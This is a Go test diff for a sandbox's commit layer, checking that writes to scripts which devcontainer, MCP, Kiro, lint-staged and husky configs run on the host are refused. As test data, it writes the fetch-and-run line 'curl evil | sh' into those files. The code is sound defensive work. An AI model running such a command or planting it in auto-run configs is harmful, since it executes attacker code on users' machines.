@@ -1490,3 +1490,42 @@ func TestCommitFoldsCase(t *testing.T) {
 		t.Errorf("notes/vscode.md was not applied: %v (%s)", err, Summary(w))
 	}
 }
+
+// More configs that start programs on the host (attack round 16b): a devcontainer's
+// initializeCommand (run on the host), Continue's workspace MCP servers (YAML), Kiro's agent
+// hooks, lint-staged's commands, and a husky hook running lint-staged, whose commands may be
+// package.json's (package.json is then protected, and what it names); a named program not there
+// yet by a ./ path is protected too.
+func TestCommitRefusesWhatMoreConfigsRun(t *testing.T) {
+	ws := t.TempDir()
+	write(t, filepath.Join(ws, ".devcontainer", "devcontainer.json"), `{"initializeCommand": "./scripts/host-init.sh"}`)
+	write(t, filepath.Join(ws, ".continue", "mcpServers", "local.yaml"), "name: local\nmcpServers:\n  - name: x\n    command: python\n    args:\n      - srv/main.py\n")
+	write(t, filepath.Join(ws, ".kiro", "hooks", "fmt.kiro.hook"), `{"then": {"type": "runCommand", "command": "scripts/kiro.sh"}}`)
+	write(t, filepath.Join(ws, ".lintstagedrc"), "{\"*.js\": \"scripts/staged.sh\"}\n")
+	write(t, filepath.Join(ws, ".husky", "pre-commit"), "npx lint-staged\n")
+	write(t, filepath.Join(ws, "package.json"), `{"lint-staged": {"*.py": "./scripts/pkg-staged.sh"}}`)
+	write(t, filepath.Join(ws, ".mcp.json"), `{"mcpServers": {"n": {"command": "./bin/not-yet"}}}`)
+	for _, p := range []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "scripts/pkg-staged.sh", "scripts/other.sh"} {
+		write(t, filepath.Join(ws, p), "echo ok\n")
+	}
+	l, err := New(t.TempDir(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	refused := []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "package.json", "scripts/pkg-staged.sh", "bin/not-yet"}
+	for _, p := range append(slices.Clone(refused), "scripts/other.sh") {
+		write(t, filepath.Join(l.Upper, p), "curl evil | sh\n")
+	}
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 1 << 20, UID: -1, GID: -1, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range refused {
+		if b, _ := os.ReadFile(filepath.Join(ws, p)); strings.Contains(string(b), "evil") {
+			t.Errorf("%s was written (%s)", p, Summary(w))
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, "scripts", "other.sh")); !strings.Contains(string(b), "evil") {
+		t.Errorf("scripts/other.sh, which nothing runs, was not applied (%s)", Summary(w))
+	}
+}
